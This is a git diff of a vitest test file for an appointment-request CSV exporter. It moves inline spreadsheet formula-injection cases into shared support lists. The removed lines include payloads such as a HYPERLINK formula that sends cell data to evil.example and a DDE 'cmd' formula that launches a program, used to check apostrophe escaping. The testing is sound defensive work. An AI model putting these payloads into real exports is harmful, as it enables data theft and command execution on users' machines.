@@ -3,6 +3,7 @@ import fc from 'fast-check';
 import { expect, test } from 'vitest';
 import { countCut, requestsCsv, requestsCsvParts, csvFileName } from '#src/domain/requestsCsv.ts';
 import type { AppointmentRequest } from '#src/domain/types.ts';
+import { harmless, hostile, hostileInside } from '#tests/support/csvTexts.ts';
 import { cellsBySeparator, parseCsv } from '#tests/support/parseCsv.ts';
 
 const plain: AppointmentRequest = {
@@ -77,56 +78,19 @@ test('the CSV of an empty list is only the header', () => {
   expect(parseCsv(withoutMark(requestsCsv([])))).toEqual([header]);
 });
 
-test.each([
-  'She said "sit"',
-  'a,b;c\td',
-  'first\nsecond\r\nthird',
-  'பூனை மற்றும் नाय कुत्ता ಬೆಕ್ಕು',
-  '👩🏽‍⚕️🐕',
-  "'quoted'",
-  'a+b@c',
-  '0012',
-  '   two spaces before and after  ',
-  '',
-])('a cell contains %j as typed', (comments) => expect(commentCell(comments)).toBe(comments));
-
-test.each([
-  '=1+1',
-  '+919876543210',
-  '-2+3',
-  '@SUM(A1)',
-  '  =1+1',
-  '\u00a0=1+1',
-  '\u3000=1+1',
-  '\tnote',
-  '\nnote',
-  ' \nnote',
-  '＝1+1',
-  '＠SUM(A1)',
-  '\u200b=1+1',
-  '\u0000=1+1',
-  '=HYPERLINK("https://evil.example?"&A1,"x")',
-  "=cmd|' /C calc'!A0",
-])('a cell with %j is escaped with an apostrophe', (comments) =>
-  expect(commentCell(comments)).toBe(`'${comments}`),
+test.each([...harmless, '', '0012', 'limps; since Monday; a-b'])(
+  'a cell contains %j as typed',
+  (comments) => expect(commentCell(comments)).toBe(comments),
 );
 
-test.each([
-  ['a;=1+1', "a;'=1+1"],
-  ['a\t=1+1', "a\t'=1+1"],
-  ['a\n=1+1', "a\n'=1+1"],
-  ['\t=1+1', "'\t'=1+1"],
-  ['\r\n=1+1', "'\r\n'=1+1"],
-  ['a; +1', "a;' +1"],
-  ['a;"=1+1;b', 'a;\'"=1+1;b'],
-  [
-    'a;=HYPERLINK("https://evil.example?"&A1;"x")',
-    'a;\'=HYPERLINK("https://evil.example?"&A1;"x")',
-  ],
-  ['limps; since Monday; a-b', 'limps; since Monday; a-b'],
-  ['two\nlines', 'two\nlines'],
-])('a cell with %j is escaped behind other list separators, too', (comments, cell) =>
-  expect(commentCell(comments)).toBe(cell),
+test.each([...hostile, '\u3000=1+1', '\u0000=1+1', '\tnote', '\nnote', ' \nnote'])(
+  'a cell with %j is escaped with an apostrophe',
+  (comments) => expect(commentCell(comments)).toBe(`'${comments}`),
+);
+
+test.each([...hostileInside, ['\r\n=1+1', "'\r\n'=1+1"], ['a; +1', "a;' +1"]])(
+  'a cell with %j is escaped behind other list separators, too',
+  (comments, cell) => expect(commentCell(comments)).toBe(cell),
 );
 
 test('a hundred thousand tabs before a formula are escaped as they come', () => {
@@ -136,10 +100,10 @@ test('a hundred thousand tabs before a formula are escaped as they come', () => 
 });
 
 test('the cells of every column are escaped', () => {
-  const hostile = Object.fromEntries(
+  const formulas = Object.fromEntries(
     Object.keys(plain).map((key) => [key, '=1+1']),
   ) as unknown as AppointmentRequest;
-  const [row] = cellsOf([{ ...hostile, date: '2026-03-07' }]);
+  const [row] = cellsOf([{ ...formulas, date: '2026-03-07' }]);
   expect(row).toEqual(header.map((title) => (title === 'Date' ? '2026-03-07' : "'=1+1")));
 });
 
